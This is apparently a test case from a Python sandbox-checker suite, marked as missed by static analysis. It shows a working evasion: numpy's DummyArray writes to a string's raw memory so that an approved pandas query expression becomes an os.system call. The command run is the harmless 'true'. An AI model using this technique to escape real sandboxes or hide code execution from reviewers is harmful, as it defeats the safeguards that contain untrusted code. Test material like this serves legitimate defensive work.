# family: data_native
# reaches: process
# layer: static
# static: missed
# as_strided is excluded, the DummyArray it is built on is not: an interface dict with a raw
# address makes an array over a constant query string, judged as column names and operators by
# SBX206, which the program rewrites before DataFrame.query evaluates it.
import numpy as np
import pandas as pd
from numpy.lib.stride_tricks import DummyArray

df = pd.DataFrame({"units": [3, 8, 1], "price": [2.5, 1.0, 4.0]})
expr = "units > 0 and price > 0 and units < price * 100 and units >= 0"
code = b"@pd.io.common.os.system('true') >= 0"
iface = {"data": (id(expr) + 48, False), "shape": (len(expr),), "typestr": "|u1", "version": 3}
np.asarray(DummyArray(iface, base=None))[:] = np.frombuffer(code.ljust(len(expr)), dtype=np.uint8)
try:
    print(df.query(expr))
except Exception as exc:
    print("query failed:", type(exc).__name__)
